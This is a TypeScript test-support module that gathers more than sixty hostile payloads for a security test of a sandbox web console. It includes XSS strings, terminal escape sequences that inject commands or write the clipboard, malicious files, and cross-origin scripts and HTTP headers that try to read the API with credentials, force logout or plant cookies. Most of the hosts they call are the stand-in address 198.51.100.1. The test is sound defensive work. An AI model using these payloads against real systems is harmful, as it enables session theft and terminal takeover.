/**
 * What a hostile tenant writes where the console shows it, what its port answers, and what a page on that port tries. Together at
 * least sixty payloads (test/unit/support/hostile.test.ts).
 */

/**
 * Texts that run, leave or leak where they are shown as anything else than text: labels, file names, contents, logs, commands of
 * programs, names of templates, answers to webhooks.
 */
export const TEXTS: readonly string[] = [
  "<script>fetch('http://198.51.100.1/')</script>",
  "<img src=http://198.51.100.1/a onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "' autofocus onfocus='alert(1)",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "</pre><iframe src=http://198.51.100.1/></iframe>",
  "</title><base href=http://198.51.100.1/>",
  "<link rel=stylesheet href=http://198.51.100.1/>",
  "<style>@import 'http://198.51.100.1/'</style>",
  "<meta http-equiv=refresh content='0;url=http://198.51.100.1/'>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "__proto__",
  "\u202Etxt.exe",
  "\uFEFF\u200Binvisible",
  '=HYPERLINK("http://198.51.100.1/")',
];

/**
 * What no screen makes: elements and attributes that would be there if a text were not shown as text. The field for files puts
 * images without a source beside characters that it shows in place of invisible ones.
 */
export const STRANGE =
  "#page :is(script, iframe, svg, img:not(.cm-widgetBuffer:not([src])), base, link, style, meta, math, [onerror], [onfocus], a[href^='javascript'], a[href^='data'])";

const [ESC, BEL, ST] = ["\u001B", "\u0007", "\u001B\\"];

/** What a program prints to take over a terminal, or to make it type. */
export const ESCAPES: readonly string[] = [
  `${ESC}]0;taken${BEL}`,
  `${ESC}]2;taken${ST}`,
  `${ESC}]1;taken${BEL}`,
  `${ESC}]52;c;dGFrZW4=${BEL}`,
  `${ESC}]52;c;?${BEL}`,
  `${ESC}]8;;http://198.51.100.1/${BEL}click${ESC}]8;;${BEL}`,
  `${ESC}]8;;javascript:alert(1)${BEL}click${ESC}]8;;${BEL}`,
  `${ESC}]8;;data:text/html,<script>alert(1)</script>${BEL}click${ESC}]8;;${BEL}`,
  `${ESC}]0;touch /tmp/taken-by-title${BEL}${ESC}[21t\r`,
  `${ESC}[20t${ESC}[18t${ESC}[14t`,
  `${ESC}P$qm;touch /tmp/taken-by-query${ST}`,
  `${ESC}]4;0;?${BEL}${ESC}]10;?${BEL}${ESC}]11;?${BEL}`,
  "\u0005",
  `${ESC}]50;?${BEL}`,
  `${ESC}]1337;File=inline=1:PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+${BEL}`,
  `${ESC}]9;taken${BEL}${ESC}]777;notify;taken;taken${BEL}`,
  `${ESC}[8;9999;9999t${ESC}[3;9999;9999t${ESC}[2t`,
  ...Array.from("@ILMPSTXZb", (final) => `a${ESC}[2147483647${final}`),
  `${ESC}[2147483647 @${ESC}[2147483647 A${ESC}[2147483647'}${ESC}[2147483647'~`,
  `${ESC}[?1049h<script>alert(1)</script>${ESC}[?1049l`,
  `${ESC}]0;${"x".repeat(100_000)}${BEL}`,
];

/** Files whose content another server would name as something to show. */
export const FILES: Readonly<Record<string, string>> = {
  "page.html": "<script>alert(document.domain)</script>",
  "picture.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "data.xml": "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
  "script.js": "alert(1)",
  "style.css": "body{background:url(http://198.51.100.1/)}",
  "sniffed.png": "<html><script>alert(1)</script></html>",
};

/** What the page of a port tries with the console at `at`: the body of a function whose result says whether it came through. */
export const ATTEMPTS: Readonly<Record<string, string>> = {
  "reads the API": "return (await fetch(at + '/console/api/v2/sandboxes', { credentials: 'include' })).ok",
  "reads it through a header of its own":
    "return (await fetch(at + '/console/api/session', { credentials: 'include', headers: { 'x-a': 'b' } })).ok",
  "posts without asking": `
    await fetch(at + '/console/logout', { method: 'POST', mode: 'no-cors', credentials: 'include' });
    return false`,
  "leaves a beacon": "navigator.sendBeacon(at + '/console/logout', ''); return false",
  "loads its answer as a script": "return loads('script', at + '/console/api/session')",
  "loads its file as a picture": "return loads('img', at + '/console/')",
  "follows its events":
    "return new Promise((done) => { const s = new EventSource(at + '/console/api/events', { withCredentials: true }); s.onopen = () => done(true); s.onerror = () => done(false) })",
  "opens a socket":
    "return new Promise((done) => { const s = new WebSocket(at.replace('http', 'ws') + '/console/api/events'); s.onopen = () => done(true); s.onerror = () => done(false) })",
  "frames the page and looks into it": `
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.src = at + '/console/';
    await new Promise((done) => { frame.onload = done; setTimeout(done, 3000) });
    return Boolean(frame.contentDocument && frame.contentDocument.getElementById('page'))`,
  "sets its cookie": `
    document.cookie = 'svc_console_' + new URL(at).port + '=' + 'A'.repeat(43) + '; path=/console; domain=localhost';
    document.cookie = 'svc_console_' + new URL(at).port + '=' + 'A'.repeat(43) + '; path=/console; domain=' + new URL(at).hostname;
    return false`,
  "reads its cookie": "return document.cookie.includes('svc_console')",
  "begins a log-in in the background":
    "return (await fetch(at + '/console/login', { method: 'POST', credentials: 'include', headers: { 'x-console-code': 'a' } })).ok",
};

interface PortAnswer {
  readonly status: number;
  readonly headers: readonly (readonly [name: string, value: string])[];
}

const WEEK_S = 604_800;

/**
 * What a port answers a browser that is logged in, with headers that set or clear cookies, change what browsers think of the
 * console's host, or send the browser there.
 * @param at origin of the console
 */
export function hostileAnswers(at: string): Readonly<Record<string, PortAnswer>> {
  const { port, hostname } = new URL(at);
  const [name, value] = [`svc_console_${port}`, "A".repeat(43)];
  const cookie = (pair: string) => ["Set-Cookie", pair] as const;
  const many = Array.from({ length: 50 }, (_none, index) =>
    cookie(`filler${index}=${"x".repeat(100)}; Domain=${hostname}; Path=/; Max-Age=${WEEK_S}`),
  );
  return {
    "sets the console's cookie for its host": {
      status: 200,
      headers: [
        cookie(`${name}=${value}; Domain=${hostname}; Path=/console`),
        cookie(`${name}=${value}; Domain=localhost; Path=/console`),
      ],
    },
    "sets the cookie that TLS has": { status: 200, headers: [cookie(`__Host-svc_console=${value}; Path=/; Secure`)] },
    "fills the jar of the console's host": { status: 200, headers: many },
    "clears what the browser has stored": {
      status: 200,
      headers: [["Clear-Site-Data", '"cache", "cookies", "storage"']],
    },
    "wants TLS for every host": {
      status: 200,
      headers: [["Strict-Transport-Security", `max-age=${WEEK_S}; includeSubDomains`]],
    },
    "sends the browser to the log-out": { status: 302, headers: [["Location", `${at}/console/logout`]] },
    "sends the browser to the log-out with its method": {
      status: 307,
      headers: [["Location", `${at}/console/logout`]],
    },
    "has the browser load the console's API ahead": {
      status: 200,
      headers: [["Link", `<${at}/console/api/session>; rel=preload; as=fetch; crossorigin=use-credentials`]],
    },
    "opens itself to every origin": {
      status: 200,
      headers: [
        ["Access-Control-Allow-Origin", at],
        ["Access-Control-Allow-Credentials", "true"],
        ["Cross-Origin-Opener-Policy", "unsafe-none"],
      ],
    },
  };
}

/** A program of the sandbox that answers each path as `answers.json` says. */
export const ANSWERING = `import http.server, json
ANSWERS = json.load(open("/home/user/answers.json"))
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        answer = ANSWERS.get(self.path, {"status": 200, "headers": []})
        self.send_response(answer["status"])
        for name, value in answer["headers"]: self.send_header(name, value)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>port</title>")
http.server.ThreadingHTTPServer(("", 8000), Handler).serve_forever()
`;
